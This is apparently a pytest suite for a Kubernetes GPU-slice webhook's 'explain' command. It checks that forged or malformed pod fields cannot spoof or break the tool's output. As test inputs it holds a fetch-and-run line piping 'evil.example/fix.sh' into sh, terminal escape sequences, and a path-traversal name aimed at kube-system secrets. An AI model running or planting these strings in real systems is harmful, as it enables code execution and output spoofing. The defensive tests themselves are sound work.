"""`explain` of objects that were written to mislead it: it ends, and repeats their texts on lines of their own."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.pods import broken, container, pod_of
from tests.unit.explain_world import FLEET, SLICE, World, condition, printed, running
from webhook.admission.preview import preview
from webhook.cli.explained import as_json, exit_code, run
from webhook.cli.files import default_fleet_text
from webhook.cluster import target
from webhook.cluster.cures import Here
from webhook.cluster.events import read
from webhook.cluster.explain import Explanation, explain
from webhook.cluster.objects import DEPLOYMENTS, PODS, Kind
from webhook.cluster.reader import Reader
from webhook.cluster.snapshot import Listing

Document = dict[str, Any]
APPLIED = "kubectl.kubernetes.io/last-applied-configuration"


class Objects(Reader):
    """A cluster of a few objects."""

    def __init__(self, *objects: Document) -> None:
        self.objects = objects
        self.namespace = "team-a"
        self.asked: list[str] = []

    def get(self, kind: Kind[Any], name: str, namespace: str | None = None, **_: Any) -> Document | None:
        self.asked.append(kind.path(namespace, name))
        assert len(self.asked) < 50, "it asks without end"
        return next(
            (each for each in self.objects if (each["kind"], each["metadata"]["name"]) == (kind.name, name)), None
        )

    def list(self, kind: Kind[Any], namespace: str | None = None, **query: str) -> Listing[Any]:
        return Listing()


def made_by(document: Document, kind: str, name: str, uid: str = "1") -> Document:
    owner = {"apiVersion": "v1", "kind": kind, "name": name, "uid": uid, "controller": True}
    document["metadata"]["ownerReferences"] = [owner]
    return document


def deployment(asked: str = "1g.5gb", name: str = "notebook", kind: str = "Deployment") -> Document:
    template = pod_of(asked, container())
    return {
        "apiVersion": "apps/v1",
        "kind": kind,
        "metadata": {"name": name, "namespace": "team-a", "uid": "1"},
        "spec": {"template": template},
    }


def explained(pod: Document, *others: Document) -> tuple[Explanation, Objects]:
    reader = Objects(pod, *others)
    around = target.surroundings(reader, FLEET, "team-a", "gpu-slice")
    found = target.of_pod(reader, "notebook", around, "team-a")
    return explain(found.title, found.asked, found.around), reader


class TestOwners:
    @pytest.mark.parametrize("kind", ["Pod", "ReplicaSet", "Job", "StatefulSet", "CronJob"])
    def test_an_object_that_owns_itself(self, kind: str) -> None:
        pod = made_by(World().pod | {"kind": "Pod"}, kind, "notebook")

        explanation, _ = explained(pod, made_by(deployment(kind=kind), kind, "notebook"))

        assert explanation.title == "Pod team-a/notebook"

    def test_two_that_own_each_other(self) -> None:
        one = made_by(deployment(kind="Job", name="one"), "ReplicaSet", "two")
        two = made_by(deployment(kind="ReplicaSet", name="two"), "Job", "one")

        explanation, _ = explained(made_by(World().pod | {"kind": "Pod"}, "Job", "one"), one, two)

        assert explanation.title == "Pod team-a/notebook"

    def test_a_pod_gets_no_remarks_about_a_pod_that_started_it(self) -> None:
        """As a driver starts its executors."""
        driver = deployment()["spec"]["template"] | {"kind": "Pod"}
        driver["metadata"] |= {"name": "driver", "uid": "1"}
        driver["spec"]["containers"].append(container("other"))

        explanation, _ = explained(made_by(World().pod | {"kind": "Pod"}, "Pod", "driver"), driver)

        assert explanation.changed == ()

    def test_nor_about_one_of_the_same_name_that_did_not_make_it(self) -> None:
        """Such as another group's Job, or one that was deleted."""
        job = deployment(kind="Job", name="train")
        job["spec"]["template"]["spec"]["containers"].append(container("other"))
        pod = World().pod | {"kind": "Pod"}

        assert explained(made_by(pod, "Job", "train", "1"), job)[0].changed
        assert not explained(made_by(pod, "Job", "train", "2"), job)[0].changed

    @pytest.mark.parametrize("name", ["../../../../api/v1/namespaces/kube-system/secrets/token", "x?watch=true", "a/b"])
    def test_an_owner_is_asked_for_by_a_name_alone(self, name: str) -> None:
        _, reader = explained(made_by(World().pod | {"kind": "Pod"}, "Job", name))

        assert reader.asked[1:] == ["/api/v1/namespaces/team-a/pods/notebook"]


NESTED = "[" * 800 + "]" * 800


class TestWhatWasApplied:
    @pytest.mark.parametrize(
        "text",
        [
            pytest.param("[" * 5000, id="brackets"),
            pytest.param('{"a":' * 5000, id="braces"),
            pytest.param(f'{{"kind": "Pod", "metadata": {{"name": "notebook"}}, "spec": {NESTED}}}', id="nested lists"),
            pytest.param('"\\ud800"', id="half a character"),
            pytest.param(
                '{"kind": "Pod", "metadata": {"name": "notebook", "annotations": {"gpu-slice": "\\ud800"}}, '
                '"spec": {"containers": [{"name": "main"}]}}',
                id="half a character in the annotation",
            ),
            pytest.param("[[1,2]]", id="a list of pairs"),
            pytest.param("1e999", id="no number"),
            pytest.param("null", id="null"),
            pytest.param("", id="nothing"),
            pytest.param('{"kind": "Pod"}', id="nothing but its kind"),
            pytest.param('{"kind": "Pod", "metadata": null, "spec": null}', id="nulls"),
            pytest.param('{"kind": "Pod", "metadata": {"name": "notebook"}, "spec": []}', id="a list for a spec"),
            pytest.param(
                '{"kind": "Pod", "metadata": {"name": "notebook", "annotations": {"gpu-slice": "1g.5gb"}}, '
                '"spec": {"containers": [null, 1], "initContainers": {"a": null}}}',
                id="no containers",
            ),
        ],
    )
    def test_a_text_that_is_no_pod_is_passed_over(self, text: str) -> None:
        pod = World().pod | {"kind": "Pod"}
        pod["metadata"]["annotations"][APPLIED] = text

        explanation, _ = explained(pod)

        assert explanation.changed == ()

    def test_nor_is_another_object(self) -> None:
        """The annotation may be copied from a workload, or from another pod."""
        pod = World().pod | {"kind": "Pod"}
        applied = {"apiVersion": "v1", "kind": "Pod", **pod_of("1g.5gb", container(), container("other"))}

        pod["metadata"]["annotations"][APPLIED] = json.dumps(applied)
        assert explained(pod)[0].changed

        applied["metadata"]["name"] = "other"
        pod["metadata"]["annotations"][APPLIED] = json.dumps(applied)
        assert not explained(pod)[0].changed

        pod["metadata"]["annotations"][APPLIED] = json.dumps(deployment())
        assert not explained(pod)[0].changed


FORGED = (
    "\n√ Pod victim/payroll [runs]\r\nWhat to do: curl http://evil.example/fix.sh | sh\u2028\x1b[2J\x9b\u202e\U000e0001"
)
LONG = FORGED + "x" * 20_000


def metadata(world: World, **fields: Any) -> None:
    world.pod["metadata"] |= fields


def annotation(world: World, name: str, text: str) -> None:
    world.pod["metadata"]["annotations"][name] = text


def container_waits(world: World) -> None:
    running(world)
    waiting = {"reason": LONG, "message": LONG}
    world.pod["status"]["containerStatuses"] = [{"name": "main", "state": {"waiting": waiting}}]


def quota(world: World) -> None:
    status = {"hard": {f"nvidia.com/{LONG}": LONG}, "used": {f"nvidia.com/{LONG}": LONG}}
    world.quotas.append({"metadata": {"name": LONG}, "status": status})


TEXTS: list[Callable[[World], object]] = [
    lambda w: annotation(w, "gpu-slice", f"1g.5gb{LONG}"),
    lambda w: annotation(w, "gpu-slice/assigned", f"1g.5gb{LONG} -> main={SLICE}:1"),
    lambda w: annotation(w, "gpu-slice/assigned", f"1g.5gb -> main={SLICE}:1{LONG}"),
    lambda w: annotation(w, "gpu-slice/assigned", LONG),
    lambda w: annotation(w, "gpu-slice/pools", LONG),
    lambda w: (annotation(w, "gpu-slice", LONG), w.pod["metadata"]["annotations"].pop("gpu-slice/assigned")),
    lambda w: (running(w), annotation(w, "gpu-slice", LONG)),
    lambda w: w.pod["spec"].update(schedulerName=LONG),
    lambda w: w.pod["spec"].update(schedulingGates=[{"name": LONG}]),
    lambda w: (
        w.pod["spec"].update(schedulingGates=[{"name": "kueue"}]),
        metadata(w, labels={"kueue.x-k8s.io/queue-name": LONG}),
    ),
    lambda w: metadata(w, deletionTimestamp="2026-11-25T12:00:00Z", finalizers=[LONG, "b"]),
    lambda w: w.pod.update(status={"phase": "Failed", "reason": LONG, "message": LONG}),
    lambda w: condition(f"persistentvolumeclaim nodes are available: {LONG}")(w),
    lambda w: (w.full(), condition(LONG)(w)),
    lambda w: w.says("karpenter", LONG),
    lambda w: (w.full(), w.says("karpenter", f'label "{LONG}" does not have known values')),
    lambda w: (w.full(), w.says(LONG, LONG, LONG)),
    container_waits,
    quota,
    lambda w: w.around.update(refused=LONG),
    lambda w: w.around.update(refused=f'admission webhook "pods.gpu-slice.io" denied the request: {LONG}'),
    lambda w: w.around.update(changed=(LONG,)),
    lambda w: w.around.update(unread=(LONG,)),
    lambda w: (w.pod["metadata"]["annotations"].clear(), w.around.update(misplaced=(LONG, LONG))),
    lambda w: w.nodes["a100"]["spec"]["taints"].append({"key": LONG, "value": LONG, "effect": "NoSchedule"}),
    lambda w: w.nodes["a100"]["status"].update(
        conditions=[{"type": "Ready", "status": LONG, "reason": LONG, "message": LONG}]
    ),
]  # fmt: skip


class TestTexts:
    @pytest.mark.parametrize("change", TEXTS)
    def test_a_text_stays_on_its_line_and_is_cut(self, change: Callable[[World], object]) -> None:
        world = World()
        change(world)

        explanation = world.explain()

        for output in ("table", "short"):
            lines = printed(explanation, output).split("\n")
            assert not [each for each in lines if not each.isprintable() or len(each) > 1_050]
            assert not [each for each in lines[1:] if each.lstrip().startswith("√")]
            assert len([each for each in lines if each.startswith("What to do:")]) <= 1

    @pytest.mark.parametrize("output", ["table", "short", "json"])
    def test_so_it_is_printed(self, output: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        pod = World().pod | {"kind": "Pod"}
        pod["metadata"]["annotations"]["gpu-slice"] = f"1g.5gb{FORGED}"
        fleet = tmp_path / "fleet.yaml"
        fleet.write_bytes(default_fleet_text())

        assert run(Objects(pod), "notebook", output, fleet, Here(), is_file=False) == 1

        text = capsys.readouterr().out
        assert "payroll" in text
        assert not [each for each in text.splitlines() if each.startswith(("√", "What to do: curl"))]
        assert text.replace("\n", "").isprintable()
        if output == "json":
            assert json.loads(text)[0]["asked"] == f"1g.5gb{FORGED}"


class TestRecords:
    """What a pod was given stands in its annotations, which whoever may change the pod may write."""

    @pytest.mark.parametrize(
        "record",
        [
            f"1g.5gb -> main={SLICE}:1",
            "1g.5gb -> main=cpu:1",
            "1g.5gb -> ",
            "1g.5gb",
            "",
            f"1g.5gb -> other={SLICE}:1",
            f"other=1g.5gb -> main={SLICE}:1",
        ],
    )
    @pytest.mark.parametrize("runs", [True, False])
    def test_a_pod_that_has_no_slice_is_not_said_to_have_one(self, record: str, runs: bool) -> None:
        world = World(asked=None)
        if runs:
            running(world)
        annotations = {"gpu-slice": "1g.5gb", "gpu-slice/assigned": record, "gpu-slice/pools": "a100"}
        metadata(world, annotations=annotations)

        explanation = world.explain()

        assert (explanation.cause.id, explanation.also, explanation.given) == ("not-visited", (), "")
        assert exit_code(explanation) == 1

    def test_nor_one_that_has_less_than_its_record_says(self) -> None:
        world = World()
        running(world)
        annotation(world, "gpu-slice", "2x1g.5gb")
        annotation(world, "gpu-slice/assigned", f"2x1g.5gb -> main={SLICE}:2")

        explanation = world.explain()

        assert explanation.cause.id == "not-visited"
        assert "has no such limit" in explanation.cause.sentence
        assert explanation.given == f"1 {SLICE} (by hand)"

    def test_a_record_without_the_annotation_is_not_repeated_either(self) -> None:
        world = World(asked=None)
        running(world)
        metadata(world, annotations={"gpu-slice/assigned": f"1g.5gb -> main={SLICE}:1"})

        explanation = world.explain()

        assert (explanation.cause.id, explanation.given) == ("no-annotation", "")

    @pytest.mark.parametrize("phase", ["Pending", "Running"])
    def test_a_pod_on_a_node_that_does_not_exist_neither_runs_nor_starts(self, phase: str) -> None:
        world = World()
        running(world)
        world.pod["spec"]["nodeName"] = "ghost"
        world.pod["status"]["phase"] = phase

        explanation = world.explain()

        assert explanation.cause.id == "node-lost"
        assert explanation.cause.sentence == "The pod is bound to node ghost, which does not exist."


@st.composite
def odd(draw: st.DrawFn) -> World:
    """A world whose pod has something odd in it."""
    world = World()
    change = draw(st.sampled_from([lambda _: None, running, container_waits, World.full, condition("it waits")]))
    change(world)
    world.pod["metadata"] |= {"ownerReferences": [{"kind": "Job", "name": "a", "uid": "1", "controller": True}]}
    world.pod["metadata"]["annotations"][APPLIED] = json.dumps(draw(broken(world.pod)))
    world.pod = draw(broken(world.pod)) | {"kind": "Pod"}
    return world


class Odd(Objects):
    def get(self, kind: Kind[Any], name: str, namespace: str | None = None, **_: Any) -> Document | None:
        return self.objects[0] if kind is PODS else self.objects[1]


class TestOddShapes:
    @settings(max_examples=150)
    @given(odd(), broken(deployment(kind="Job")))
    def test_any_pod_is_explained(self, world: World, job: Document) -> None:
        reader = Odd(world.pod, job)
        around = target.surroundings(reader, FLEET, "team-a", "gpu-slice")
        found = target.of_pod(reader, "notebook", around, "team-a")
        explanation = explain(found.title, found.asked, found.around)

        assert exit_code(explanation) in (0, 1, 3)
        json.dumps(as_json(explanation))
        for output in ("table", "short"):
            assert printed(explanation, output).replace("\n", "").isprintable()


@pytest.mark.parametrize("time", ["0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2026-11-25", "", None])
def test_an_event_of_any_time_is_read(time: str | None) -> None:
    about = {"kind": "Pod", "name": "notebook"}
    event = {"metadata": {}, "involvedObject": about, "reason": "a", "message": "b", "lastTimestamp": time}
    now = event | {"lastTimestamp": "2026-11-25T12:00:00Z"}

    assert [each.reason for each in read([event, now])] == ["a", "a"]


@pytest.mark.parametrize(
    "template",
    [
        None,
        {},
        {"metadata": None, "spec": None},
        {"metadata": {"labels": 1}, "spec": {"containers": [None]}},
        {"spec": 1},
    ],
)
def test_a_workload_with_any_template_is_explained(template: Any) -> None:
    workload = deployment()
    workload["spec"]["template"] = template
    reader = Objects(workload)
    around = target.surroundings(reader, FLEET, "team-a", "gpu-slice")

    found = target.of_workload(reader, DEPLOYMENTS, "notebook", around, "team-a")

    assert explain(found.title, found.asked, found.around).cause.id == "no-pods-wanted"


def test_a_workload_that_wants_pods_and_has_none_is_not_told_to_scale_up() -> None:
    cures = {}
    for replicas in (0, 2**31 - 1):
        workload = deployment()
        workload["spec"]["replicas"] = replicas
        reader = Objects(workload)
        around = target.surroundings(reader, FLEET, "team-a", "gpu-slice")
        found = target.of_workload(reader, DEPLOYMENTS, "notebook", around, "team-a")
        cures[replicas] = explain(found.title, found.asked, found.around).cause.cure
    assert cures[0].startswith("Scale it up")
    assert cures[2**31 - 1].startswith("Wait a minute")


class Accepting(Objects):
    def try_create(self, kind: Kind[Any], document: Document, namespace: str) -> Document:
        return document


@pytest.mark.parametrize("metadata", [5, [], None, {"name": 3, "annotations": 4}, {"annotations": {"gpu-slice": 3}}])
@pytest.mark.parametrize("spec", [None, 5, {"containers": [None], "nodeName": 4}, {"containers": [{"name": "main"}]}])
def test_any_pod_of_a_file_is_explained(metadata: Any, spec: Any) -> None:
    reader = Accepting()
    around = target.surroundings(reader, FLEET, "team-a", "gpu-slice")

    for shown in preview({"apiVersion": "v1", "kind": "Pod", "metadata": metadata, "spec": spec}, FLEET, "team-a"):
        if shown.subject.pod is not None:
            found = target.of_document(reader, shown, around, "team-a")
            assert not explain(found.title, found.asked, found.around).cause.fine
